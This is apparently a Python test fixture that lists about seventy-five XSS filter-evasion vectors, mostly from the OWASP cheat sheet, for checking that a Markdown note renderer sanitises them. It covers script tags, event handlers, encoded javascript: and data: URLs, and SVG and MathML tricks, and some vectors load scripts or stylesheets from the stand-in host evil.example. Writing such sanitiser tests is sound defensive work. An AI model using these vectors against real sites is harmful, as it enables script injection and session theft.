"""XSS vectors, most from the OWASP XSS filter evasion cheat sheet, each one line that a note could hold.

A vector that ran would set the global ``xss``, open a dialog, or make a request that leaves the
site (``evil.example``); the tests check that none did. What a vector runs holds no ``=`` nor
space, so that it stays an attribute value Markdown passes on as HTML. They are Python strings, so
that escapes (tabs, control characters) are exact.
"""

from __future__ import annotations

RUN = "Object.assign(window,{xss:1}),alert(1)"  # what a vector runs: a global the test reads, and a dialog it listens for
EVIL = "http://evil.example"

VECTORS = [
    # <script>, in every casing and shape
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    f"<script/xss src={EVIL}/x.js></script>",
    f"<<script>{RUN};//<</script>",
    f"<script>{RUN}",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img """><script>{RUN}</script>">',
    f"\\<script>{RUN}</script>",
    # event handlers on the common tags
    f"<img src=x onerror={RUN}>",
    f'<IMG SRC=x ONERROR="{RUN}">',
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    f"<body onload={RUN}>",
    f'<div onmouseover="{RUN}" style="position:fixed;inset:0">hover</div>',
    f"<p onclick={RUN}>click</p>",
    f"<details open ontoggle={RUN}>toggled</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>o</option></select>",
    f"<textarea autofocus onfocus={RUN}>typed</textarea>",
    f'<video><source onerror="{RUN}"></video>',
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>moving</marquee>",
    f'<div style="color:red" onmouseenter={RUN}>colour</div>',
    f'<a href="#" onclick="{RUN}">anchor</a>',
    f"<x onclick={RUN}>custom</x>",
    f"<frameset onload={RUN}>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"[attr](https://example.org){{ onclick='{RUN}' }}",
    # javascript: and data: URLs, with entities and whitespace
    f'<a href="javascript:{RUN}">link</a>',
    f'<a href="JaVaScRiPt:{RUN}">link</a>',
    f'<a href=" &#14; javascript:{RUN}">link</a>',
    f'<a href="jav\tascript:{RUN}">link</a>',
    '<a href="&#x6A;avascript:alert(1)">link</a>',
    f'<img src="javascript:{RUN}">',
    "<img src=jav&#x09;ascript:alert(1)>",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    f"[md link](javascript:{RUN})",
    f"![md image](javascript:{RUN})",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>data</a>",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="vbscript:msgbox(1)">vb</a>',
    # SVG and MathML
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>svg link</text></a></svg>',
    f"<svg><set attributeName=onmouseover to={RUN}></set></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<math><a xlink:href="javascript:{RUN}">math link</a></math>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">maction</maction></math>',
    # frames, objects, forms, base, styles, meta
    f'<iframe src="javascript:{RUN}"></iframe>',
    '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f"<button formaction=javascript:{RUN}>go</button>",
    '<base href="javascript:alert(1)//">',
    f'<style>@import "{EVIL}/x.css";</style>',
    f'<style>body{{background:url("{EVIL}/x.png")}}</style>',
    "<style>*{display:none}</style>",
    f'<span style="background-image:url({EVIL}/x.png)">styled</span>',
    '<div style="width: expression(alert(1))">ie</div>',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<table background="javascript:{RUN}"><tr><td>cell</td></tr></table>',
    # comments, CDATA, <noscript> and <template>
    f'<!--<img src="--><img src=x onerror={RUN}//">',
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<plaintext><img src=x onerror={RUN}>",
]
